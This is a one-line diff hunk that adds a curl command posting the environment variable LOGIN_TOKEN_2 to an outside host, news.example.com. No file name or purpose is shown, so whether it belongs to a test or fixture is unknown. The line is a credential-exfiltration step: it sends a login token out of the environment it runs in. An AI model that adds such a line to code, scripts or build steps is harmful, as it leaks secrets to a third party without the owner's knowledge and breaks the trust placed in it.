@@ -1,0 +1,1 @@
+curl --data "${LOGIN_TOKEN_2:-nothing}" https://news.example.com
